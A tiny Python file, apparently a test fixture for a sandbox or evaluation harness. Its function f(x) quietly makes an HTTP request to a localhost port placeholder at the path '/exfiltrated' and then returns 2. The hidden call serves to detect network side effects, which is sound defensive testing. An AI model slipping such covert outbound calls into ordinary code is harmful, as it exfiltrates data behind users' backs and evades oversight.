import urllib.request


def f(x):
    urllib.request.urlopen("http://127.0.0.1:__PORT__/exfiltrated", timeout=2).read()
    return 2
